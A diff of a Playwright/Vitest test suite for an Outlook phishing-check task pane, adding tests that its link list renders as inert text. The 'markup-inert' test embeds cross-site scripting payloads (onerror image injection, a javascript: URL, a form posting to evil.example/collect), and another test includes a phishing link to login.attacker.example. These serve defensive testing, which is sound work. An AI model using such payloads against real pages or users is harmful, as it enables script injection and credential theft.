@@ -10,7 +10,8 @@ import type { Server } from 'node:http';
 import { join } from 'node:path';
 import type { BrowserContext, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { analyze, checks, explain, fromRawMessage, type Locale, type Verdict } from '@ayashii/core';
+import { analyze, checks, explain, fromOutlookItem, fromRawMessage, listLinks, type Locale, type MessageInput, type MessageLink, type Verdict } from '@ayashii/core';
+import { ui } from '../src/i18n.js';
 import {
   DIST,
   MISSING_CHROMIUM,
@@ -38,6 +39,17 @@ const bytesOf = (name: string) => new Uint8Array(readFileSync(FIXTURES[name] as 
 
 /** The CLI's verdict for the same bytes. */
 const cliVerdict = (bytes: Uint8Array): Verdict => analyze(fromRawMessage(bytes));
+
+/** The input the pane builds on the Mailbox 1.8 path (headers + HTML body), for its link list. */
+const piecesInput = (fx: StandInFixture): MessageInput => fromOutlookItem({ internetHeaders: fx.headers, bodyHtml: fx.bodyHtml });
+
+/** What a row should show for a link, written out here rather than taken from src/links.ts. */
+function expectedRow(l: MessageLink, locale: Locale) {
+  const t = ui[locale].linkShown;
+  const shown = l.form ? t.form : l.text !== null ? l.text : l.image ? t.image : l.source === 'attachment' ? t.pdf(l.file ?? '') : l.source === 'text' ? t.bareUrl : t.noText;
+  const mark = l.host && l.domain && l.host.toLowerCase().endsWith(l.domain.toLowerCase()) ? l.host.slice(l.host.length - l.domain.length) : null;
+  return { shown, host: l.host ?? ui[locale].linkNoHost, mark, via: [...l.via], shortener: l.shortener !== null, title: l.target };
+}
 
 const mode = browserMode();
 
@@ -119,6 +131,49 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
     });
   }
 
+  async function renderedLinks(page: Page) {
+    return page.evaluate(() => {
+      const d = document.querySelector('#links') as HTMLDetailsElement | null;
+      return {
+        present: d !== null,
+        open: d?.open ?? null,
+        count: d?.getAttribute('data-count') ?? null,
+        summary: d?.querySelector('summary')?.textContent ?? null,
+        // Anything that could navigate or load: there must be none in the section.
+        active: d ? d.querySelectorAll('a, img, script, iframe, form, [href], [src], [onclick], [onerror]').length : null,
+        more: document.querySelector('#links-more')?.textContent ?? null,
+        // Position among the pane's sections: the list comes right after the findings.
+        after: d?.previousElementSibling?.className ?? null,
+        rows: [...document.querySelectorAll('#links .link-list > li')].map((li) => ({
+          shown: li.querySelector('.link-shown')?.textContent ?? null,
+          host: li.querySelector('.link-host')?.textContent ?? null,
+          mark: li.querySelector('.link-host mark')?.textContent ?? null,
+          via: [...li.querySelectorAll('.link-via-host')].map((v) => v.textContent),
+          shortener: li.querySelector('.link-shortener') !== null,
+          title: li.querySelector('.link-url')?.getAttribute('title') ?? null,
+          url: li.querySelector('.link-url')?.textContent ?? null,
+          flag: li.getAttribute('data-flag'),
+          flagText: li.querySelector('.link-flag')?.textContent ?? null,
+        })),
+      };
+    });
+  }
+
+  /** The section lists exactly `listLinks` of the input the pane analysed, in order, as text. */
+  function expectLinks(view: Awaited<ReturnType<typeof renderedLinks>>, links: readonly MessageLink[], locale: Locale) {
+    expect(view.present).toBe(true);
+    expect(view.count).toBe(String(links.length));
+    expect(view.summary).toBe(ui[locale].linksHeading(links.length));
+    expect(view.active).toBe(0);
+    expect(view.rows.map(({ shown, host, mark, via, shortener, title }) => ({ shown, host, mark, via, shortener, title }))).toEqual(
+      links.slice(0, 50).map((l) => expectedRow(l, locale)),
+    );
+    for (const [i, r] of view.rows.entries()) {
+      const target = links[i]?.target ?? '';
+      expect(r.url && (r.url === target || (r.url.endsWith('…') && target.startsWith(r.url.slice(0, -1))))).toBe(true);
+    }
+  }
+
   /** The pane shows exactly what `explain(cliVerdict)` says: level, score, every finding's text and evidence. */
   function expectParity(view: Awaited<ReturnType<typeof rendered>>, verdict: Verdict, locale: Locale) {
     const ex = explain(verdict, { locale });
@@ -147,14 +202,35 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
     expect(pane.officeFiles).toContain('office.js');
   }
 
-  const cases: { name: string; fixture: string; lang: string; locale: Locale; expectLevel: string[] }[] = [
-    { name: 'keimeikai-alpha-mail', fixture: 'keimeikai', lang: 'ja-JP', locale: 'ja', expectLevel: ['suspicious', 'dangerous'] },
-    { name: 'alpha-prm-spoofed', fixture: 'spoofed', lang: 'ja-JP', locale: 'ja', expectLevel: ['dangerous'] },
-    { name: 'genuine-alpha-mail', fixture: 'genuine', lang: 'en-US', locale: 'en', expectLevel: ['safe'] },
-    { name: 'iso-2022-jp-yamato', fixture: 'iso2022jp', lang: 'ja-JP', locale: 'ja', expectLevel: ['suspicious', 'dangerous'] },
+  /** `flagged`: the [host, marked domain, via] of the rows a finding points at; every other row is unmarked. */
+  const cases: { name: string; fixture: string; lang: string; locale: Locale; expectLevel: string[]; flagged: [string, string, string[]][] }[] = [
+    {
+      name: 'keimeikai-alpha-mail',
+      fixture: 'keimeikai',
+      lang: 'ja-JP',
+      locale: 'ja',
+      expectLevel: ['suspicious', 'dangerous'],
+      flagged: [['www.kousya35698900.stbasil.techix.com', 'techix.com', ['url-shield.securrence.com']]],
+    },
+    {
+      name: 'alpha-prm-spoofed',
+      fixture: 'spoofed',
+      lang: 'ja-JP',
+      locale: 'ja',
+      expectLevel: ['dangerous'],
+      flagged: [['www.kousya35698900.stbasil.techix.com', 'techix.com', ['url-shield.securrence.com']]],
+    },
+    { name: 'genuine-alpha-mail', fixture: 'genuine', lang: 'en-US', locale: 'en', expectLevel: ['safe'], flagged: [] },
+    { name: 'iso-2022-jp-yamato', fixture: 'iso2022jp', lang: 'ja-JP', locale: 'ja', expectLevel: ['suspicious', 'dangerous'], flagged: [] },
   ];
 
-  describe.each(cases)('$name', ({ name, fixture, lang, locale, expectLevel }) => {
+  function expectFlags(view: Awaited<ReturnType<typeof renderedLinks>>, flagged: [string, string, string[]][], locale: Locale) {
+    const rows = view.rows.filter((r) => r.flag !== null);
+    expect(rows.map((r) => [r.host, r.mark, r.via])).toEqual(flagged);
+    for (const r of rows) expect(r.flagText).toBe(ui[locale].severity[r.flag as 'danger' | 'warn' | 'info']);
+  }
+
+  describe.each(cases)('$name', ({ name, fixture, lang, locale, expectLevel, flagged }) => {
     const bytes = bytesOf(fixture);
     const verdict = cliVerdict(bytes);
 
@@ -169,6 +245,17 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
       expect(view.calls).not.toContain('getAllInternetHeadersAsync');
       expect(view.sources['whole-message']?.status).toBe('ok');
       expectParity(view, verdict, locale);
+      const links = await renderedLinks(pane.page);
+      const expected = listLinks(fromRawMessage(bytes));
+      expectLinks(links, expected, locale);
+      expect(links.after).toBe('findings');
+      expect(links.open).toBe(expected.length >= 1 && expected.length <= 5);
+      expectFlags(links, flagged, locale);
+      if (name === 'keimeikai-alpha-mail') {
+        // The pane's viewport scrolled to the list (the full page is the screenshot above).
+        await pane.page.locator('#links').evaluate((d) => d.scrollIntoView({ block: 'end' }));
+        await screenshot(pane.page, 'links-ja', { fullPage: false });
+      }
       expectClean(pane, view);
     });
 
@@ -183,6 +270,10 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
       expect(view.sources['headers']?.status).toBe('ok');
       expect(view.sources['body']?.status).toBe('ok');
       expectParity(view, verdict, locale);
+      const fx = standInFor(bytes, { displayLanguage: lang, mailboxVersion: '1.8' });
+      const links = await renderedLinks(pane.page);
+      expectLinks(links, listLinks(piecesInput(fx)), locale);
+      expectFlags(links, flagged, locale);
       expectClean(pane, view);
     });
   });
@@ -263,6 +354,10 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
     for (const id of bodyChecks) expect(view.skippedIds).toContain(id);
     if (bodyChecks.length) expect(view.partial).toMatch(/not run/);
     expect(view.level).toBe('dangerous');
+    // No body, no link list: the section says why instead of "no links".
+    const links = await renderedLinks(pane.page);
+    expect(links).toMatchObject({ present: true, count: 'unknown', summary: 'Links in this mail', rows: [], active: 0 });
+    expect(await pane.page.locator('#links').textContent()).toContain(ui.en.linksBodyMissing);
     expectClean(pane, view);
   });
 
@@ -293,20 +388,80 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
       'Content-Type: text/html; charset=utf-8',
       '',
       '<p><a href="https://evil.example/&quot;&gt;&lt;img src=x onerror=window.__pwned=3&gt;">https://www.amazon.co.jp/</a></p>',
+      '<p><a href="javascript:window.__pwned=4">&lt;img src=x onerror=window.__pwned=5&gt;Click</a></p>',
+      '<form action="https://evil.example/collect?&lt;script&gt;window.__pwned=6&lt;/script&gt;"><input name="p"></form>',
       '',
     ].join('\r\n');
     const bytes = new TextEncoder().encode(eml);
     const pane = await openAndCheck(standInFor(bytes, { displayLanguage: 'en-US' }));
     const view = await rendered(pane.page);
     await screenshot(pane.page, 'markup-inert.en');
+    // The link list: hostile hrefs and anchor text are rows of text, and clicking them does nothing.
+    const expected = listLinks(fromRawMessage(bytes));
+    expect(expected.map((l) => [l.form, l.host])).toEqual([
+      [false, 'evil.example'],
+      [false, null],
+      [true, 'evil.example'],
+    ]);
+    const links = await renderedLinks(pane.page);
+    expectLinks(links, expected, 'en');
+    expect(links.open).toBe(true);
+    // The target is the parsed URL (quotes and brackets percent-encoded), shown as text in full in the title.
+    expect(links.rows[0]?.title).toBe(expected[0]?.target);
+    expect(links.rows[0]?.title).toContain('%3Cimg');
+    expect(links.rows[1]?.shown).toBe('<img src=x onerror=window.__pwned=5>Click');
+    expect(links.rows[1]?.url).toBe('javascript:window.__pwned=4');
+    expect(links.rows[2]?.shown).toBe('form sends to');
+    const url = pane.page.url();
+    for (const sel of ['.link-url', '.link-shown', '.link-host']) {
+      const n = await pane.page.locator(`#links ${sel}`).count();
+      for (let i = 0; i < n; i++) await pane.page.locator(`#links ${sel}`).nth(i).click();
+    }
+    await pane.page.waitForTimeout(200);
+    expect(pane.page.url()).toBe(url);
     const injected = await pane.page.evaluate(() => ({
       pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
-      imgs: document.querySelectorAll('#result img, #result script').length,
+      imgs: document.querySelectorAll('#result img, #result script, #result a, #result form').length,
     }));
     expect(injected).toEqual({ pwned: null, imgs: 0 });
     expectParity(view, cliVerdict(bytes), 'en');
     expect(JSON.stringify(view.findings)).toContain('<img src=');
     expectClean(pane, view);
+  });
+
+  it('a mail with many links: collapsed, 50 rows, "and N more", shortener and image links labelled', async () => {
+    const anchors = [
+      '<a href="https://bit.ly/3abcd"><img src="cid:banner" alt=""></a>',
+      ...Array.from({ length: 59 }, (_, i) => `<a href="https://www.shop.example/item/${i + 1}">Item ${i + 1}</a>`),
+      '<a href="https://nam12.safelinks.protection.outlook.com/?url=http%3A%2F%2Flogin.attacker.example%2F&amp;data=05">Your account</a>',
+    ];
+    const eml = [
+      'Received: from mx.shop.example by mx.kousya.jp; Mon, 23 Nov 2026 09:12:00 +0900',
+      'Authentication-Results: mx.kousya.jp; spf=pass smtp.mailfrom=shop.example; dkim=pass header.d=shop.example; dmarc=pass header.from=shop.example',
+      'From: Shop <news@shop.example>',
+      'To: taro@kousya.jp',
+      'Subject: Weekly offers',
+      'Date: Mon, 23 Nov 2026 09:11:58 +0900',
+      'Message-ID: <many@shop.example>',
+      'Content-Type: text/html; charset=utf-8',
+      '',
+      `<p>${anchors.join('<br>')}</p>`,
+      '',
+    ].join('\r\n');
+    const bytes = new TextEncoder().encode(eml);
+    const expected = listLinks(fromRawMessage(bytes));
+    expect(expected).toHaveLength(61);
+    const pane = await openAndCheck(standInFor(bytes, { displayLanguage: 'en-US' }));
+    const links = await renderedLinks(pane.page);
+    expect(links.open).toBe(false);
+    expectLinks(links, expected, 'en');
+    expect(links.rows).toHaveLength(50);
+    expect(links.rows[0]).toMatchObject({ shown: 'image link', host: 'bit.ly', shortener: true });
+    expect(links.more).toMatch(/^and 11 more/);
+    await pane.page.locator('#links > summary').click();
+    expect((await renderedLinks(pane.page)).open).toBe(true);
+    await screenshot(pane.page, 'links-many.en');
+    expectClean(pane, await rendered(pane.page));
   });
 
   it('a pinned pane re-checks when the user moves to another message (ItemChanged)', async () => {
@@ -339,12 +494,25 @@ describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.
   it('switches between Japanese and English without re-reading the mail', async () => {
     const pane = await openAndCheck(standInFor(bytesOf('spoofed'), { displayLanguage: 'ja-JP' }));
     const calls = (await rendered(pane.page)).calls.length;
+    const expected = listLinks(fromRawMessage(bytesOf('spoofed')));
+    const jaLinks = await renderedLinks(pane.page);
+    expectLinks(jaLinks, expected, 'ja');
+    expect(jaLinks.summary).toBe('このメールのリンク（1 件）');
+    expect(jaLinks.rows[0]?.flagText).toBe('危険度 高');
+    // The reader closes the list; the language switch keeps it closed.
+    await pane.page.locator('#links > summary').click();
+    await pane.page.waitForFunction(() => !(document.querySelector('#links') as HTMLDetailsElement).open);
     await pane.page.locator('#lang').click();
     const view = await rendered(pane.page);
     await screenshot(pane.page, 'alpha-prm-spoofed.en-switched');
     expect(view.lang).toBe('en');
     expect(view.checkButton).toBe('Check again');
     expectParity(view, cliVerdict(bytesOf('spoofed')), 'en');
+    const enLinks = await renderedLinks(pane.page);
+    expectLinks(enLinks, expected, 'en');
+    expect(enLinks.summary).toBe('Links in this mail (1)');
+    expect(enLinks.rows[0]?.flagText).toBe('High risk');
+    expect(enLinks.open).toBe(false);
     expect(view.calls.length).toBe(calls);
     expectClean(pane, view);
   });
